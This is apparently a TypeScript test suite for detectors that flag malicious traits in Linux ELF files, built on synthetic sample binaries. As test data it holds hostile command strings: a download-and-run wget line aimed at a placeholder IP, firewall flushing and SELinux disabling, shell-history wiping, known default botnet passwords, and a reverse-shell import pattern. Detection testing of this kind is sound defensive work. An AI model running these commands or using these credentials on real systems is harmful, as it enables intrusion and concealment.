// Each detector of Linux programs on harmless files that show its trait, and on files that nearly do.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/file/analyze.ts'
import { elfDetectors } from '../../../src/file/detectors/elf/registry.ts'
import { buildElf, type ElfRecipe } from './build-elf.ts'

interface Trait {
  readonly hits: Readonly<Record<string, ElfRecipe>>
  readonly misses: Readonly<Record<string, ElfRecipe>>
}

const texts = (...strings: readonly string[]): ElfRecipe => ({ strings })
const noise = (bytes: number): Uint8Array => {
  const out = new Uint8Array(bytes)
  let state = 1
  for (let at = 0; at < bytes; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    out[at] = state >>> 24
  }
  return out
}
const module = { name: '.modinfo', data: Buffer.from('license=GPL\0') }

const TRAITS: Readonly<Record<string, Trait>> = {
  elf_packed: {
    hits: { 'no section table, all noise': { withoutSections: true, sections: [{ name: 'x', data: noise(20_000) }] } },
    misses: { 'noise with a section table': { sections: [{ name: 'x', data: noise(20_000) }] } },
  },
  elf_writable_code_segment: {
    hits: { 'read, write, execute': { loadFlags: 7 } },
    misses: { 'read, execute': { loadFlags: 5 } },
  },
  elf_botnet: {
    hits: {
      'floods, passwords, busybox': texts(
        'udpflood',
        'synflood',
        'vizxv',
        'xc3511',
        'juantech',
        '/bin/busybox',
        '/dev/watchdog',
      ),
    },
    misses: { 'a router with a watchdog': texts('/bin/busybox', '/dev/watchdog', 'tftp -g') },
  },
  elf_floods: { hits: { 'two floods': texts('udpflood', 'httpflood') }, misses: { 'one word': texts('syn flood') } },
  elf_mines_cryptocurrency: {
    hits: { 'speaks to a pool': texts('stratum+tcp://pool.example', 'cryptonight', 'donate-level') },
    misses: { 'names an algorithm': texts('cryptonight', 'hugepages') },
  },
  elf_preload_rootkit: {
    hits: {
      'hides files': { ...texts('/etc/ld.so.preload'), imports: ['dlsym'], exports: ['readdir', 'fopen', 'unlink'] },
    },
    misses: { 'wraps without the preload file': { imports: ['dlsym'], exports: ['readdir', 'fopen', 'unlink'] } },
  },
  elf_kernel_rootkit: {
    hits: { 'hooks and hides': { type: 1, sections: [module], strings: ['sys_call_table', 'hide_pid'] } },
    misses: { traces: { type: 1, sections: [module], strings: ['kallsyms_lookup_name'] } },
  },
  elf_downloads_and_runs: {
    hits: { 'wget and chmod': texts('wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a') },
    misses: { 'wget alone': texts('wget http://example.com/') },
  },
  elf_makes_itself_permanent: {
    hits: { 'cron and a hidden path': texts('/etc/cron.d/x', '/etc/rc.local', '/tmp/.x') },
    misses: { 'cron alone': texts('/etc/cron.d/x', '/etc/crontab') },
  },
  elf_wipes_traces: {
    hits: { 'three places': texts('history -c', '/var/log/wtmp', 'HISTFILE=/dev/null') },
    misses: { 'a login program': texts('/var/log/wtmp', '/var/run/utmp') },
  },
  elf_turns_defences_off: {
    hits: { 'firewall and access control': texts('iptables -F', 'setenforce 0') },
    misses: { 'lists the rules': texts('iptables -L', 'getenforce') },
  },
  elf_kills_rivals: {
    hits: { 'two of them': texts('pkill -f xmr', 'kdevtmpfsi') },
    misses: { 'an ordinary kill': texts('killall -HUP sshd') },
  },
  elf_runs_from_memory: {
    hits: { 'a file in memory': { imports: ['memfd_create', 'fexecve'] } },
    misses: { 'shares memory': { imports: ['memfd_create', 'mmap'] } },
  },
  elf_searches_writable_paths: {
    hits: {
      'a temporary folder': { needed: ['liba.so'], runpath: '/tmp/lib' },
      'wherever it is started': { needed: ['liba.so'], runpath: '.' },
    },
    misses: {
      'beside itself': { needed: ['liba.so'], runpath: '$ORIGIN/../lib' },
      'a fixed folder': { needed: ['liba.so'], runpath: '/opt/a' },
    },
  },
  elf_small_shell_connector: {
    hits: { 'connects a shell': { imports: ['socket', 'connect', 'dup2', 'execve'], strings: ['/bin/sh'] } },
    misses: { connects: { imports: ['socket', 'connect', 'read', 'write'], strings: ['/bin/sh'] } },
  },
}

async function findingsOf(recipe: ElfRecipe): Promise<readonly string[]> {
  const { root } = await analyzeFile(buildElf(recipe), { fileName: 'sample', now: new Date(0) })
  assert.deepEqual(root.failures, [])
  return root.findings.map(({ id }) => id)
}

for (const [id, { hits, misses }] of Object.entries(TRAITS)) {
  for (const [name, recipe] of Object.entries(hits))
    test(`${id}: ${name}`, async () => assert.ok((await findingsOf(recipe)).includes(id)))
  for (const [name, recipe] of Object.entries(misses))
    test(`${id} not: ${name}`, async () => assert.ok(!(await findingsOf(recipe)).includes(id)))
}

test('every detector has hits and as many misses', () => {
  assert.deepEqual(elfDetectors.map(({ id }) => id).toSorted(), Object.keys(TRAITS).toSorted())
})
